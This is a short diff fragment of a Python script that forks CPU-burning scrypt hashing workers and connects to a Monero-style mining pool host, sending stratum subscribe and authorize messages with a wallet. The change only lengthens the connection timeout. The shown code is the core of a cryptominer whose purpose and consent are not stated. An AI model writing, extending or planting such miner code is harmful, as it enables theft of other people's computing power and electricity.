@@ -17,7 +17,7 @@ for _ in range(2):
             hashlib.scrypt(str(number).encode(), salt=b"xmr", n=16, r=1, p=1)
         os._exit(0)
     children.append(child)
-with socket.create_connection(("xmr-eu1.nanopool.example", 3333), 2) as link:
+with socket.create_connection(("xmr-eu1.nanopool.example", 3333), 8) as link:
     for method, values in (("mining.subscribe", ["cpuminer/2.5.1"]), ("mining.authorize", [WALLET, "x"])):
         link.sendall(json.dumps({"id": 1, "method": method, "params": values}).encode() + b"\n")
     link.recv(1024)
